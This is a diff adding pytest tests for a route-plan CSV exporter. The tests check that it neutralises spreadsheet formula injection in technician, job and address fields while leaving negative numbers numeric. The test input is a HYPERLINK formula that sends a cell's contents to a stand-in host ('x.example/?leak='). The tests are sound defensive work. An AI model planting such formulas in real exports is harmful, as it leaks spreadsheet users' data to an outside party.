@@ -83,3 +83,50 @@ def test_unwritable_path_is_an_export_error(plan: Plan, tmp_path: Path) -> None:
     with pytest.raises(ExportError, match="cannot write"):
         write_csv(plan, target)
     assert not target.parent.exists()
+
+
+def with_text(plan: Plan, text: str) -> Plan:
+    """The plan with ``text`` in every outside-data text field of the first stop's row."""
+    route = plan.routes[0]
+    stop = route.stops[0].model_copy(update={
+        "address": text, "service_job_id": text, "appointment_id": text})
+    route = route.model_copy(update={
+        "technician_id": text, "name": text, "stops": [stop, *route.stops[1:]]})
+    return plan.model_copy(update={"routes": [route, *plan.routes[1:]]})
+
+
+TEXT_COLUMNS = ("technician_id", "technician_name", "service_job_id", "appointment_id",
+                "address")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"],
+                         ids=["equals", "plus", "minus", "at", "tab", "cr"])
+def test_a_cell_cannot_start_a_formula(plan: Plan, tmp_path: Path, start: str) -> None:
+    formula = start + 'HYPERLINK("http://x.example/?leak="&A1,"click")'
+    path = write_csv(with_text(plan, formula), tmp_path / "plan.csv")
+    _, rows = read_rows(path)
+
+    for column in TEXT_COLUMNS:
+        assert rows[0][column] == "'" + formula, column
+    # As a spreadsheet sees the raw file: no cell of any row starts a formula.
+    with path.open(encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [cell for cell in cells if cell.startswith("-") and not is_number(cell)]
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_negative_numbers_stay_numbers(plan: Plan, tmp_path: Path) -> None:
+    _, rows = read_rows(write_csv(with_text(plan, "-42"), tmp_path / "plan.csv"))
+
+    placed = [row for row in rows if row["lon"]]
+    assert placed and all(row["lon"].startswith("-") for row in placed)  # Seattle: west
+    assert all(float(row["lon"]) < 0 for row in placed)
+    assert rows[0]["address"] == "-42"  # a plain number is no formula, whoever wrote it
